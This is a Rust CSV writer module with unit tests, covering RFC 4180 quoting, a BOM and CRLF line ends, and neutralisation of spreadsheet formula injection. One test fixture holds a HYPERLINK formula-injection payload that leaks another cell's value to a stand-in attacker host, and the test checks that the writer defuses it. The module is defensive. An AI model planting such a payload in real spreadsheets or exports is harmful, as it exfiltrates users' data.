//! Minimal CSV writer: RFC 4180 quoting, CRLF line ends, UTF-8 with a BOM so
//! that Excel opens Chinese text correctly, and every cell neutralised
//! against formula injection (`escape::csv_cell`).

use crate::escape::csv_cell;

/// Quote one field when it holds a comma, a double quote, CR or LF (or
/// leading/trailing spaces); double quotes inside are doubled.
pub fn field(s: &str) -> String {
    let needs = s.contains([',', '"', '\r', '\n']) || s.starts_with(' ') || s.ends_with(' ');
    if needs {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// A whole CSV document: BOM, header, rows, each line ended by CRLF. The
/// columns whose indices are in `numeric` keep plain numbers (`-3`) as they
/// are; every other cell that could start a formula gets a leading `'`.
pub fn document(header: &[&str], numeric: &[usize], rows: &[Vec<String>]) -> String {
    let mut out = String::from("\u{feff}");
    let line = |cells: Vec<String>| cells.join(",") + "\r\n";
    out.push_str(&line(
        header.iter().map(|h| field(&csv_cell(h, false))).collect(),
    ));
    for r in rows {
        out.push_str(&line(
            r.iter()
                .enumerate()
                .map(|(i, c)| field(&csv_cell(c, numeric.contains(&i))))
                .collect(),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
        assert_eq!(field(""), "");
    }

    #[test]
    fn bom_and_crlf() {
        let d = document(&["名称", "x"], &[1], &[vec!["苏州,某".into(), "1".into()]]);
        assert_eq!(d, "\u{feff}名称,x\r\n\"苏州,某\",1\r\n");
    }

    #[test]
    fn formulas_neutralised_numeric_columns_kept() {
        let d = document(
            &["名称", "n"],
            &[1],
            &[
                vec![
                    "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"点击查看\")".into(),
                    "-3".into(),
                ],
                vec!["-3".into(), "=1+1".into()],
            ],
        );
        assert_eq!(
            d,
            "\u{feff}名称,n\r\n\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"点击查看\"\")\",-3\r\n'-3,'=1+1\r\n"
        );
    }
}
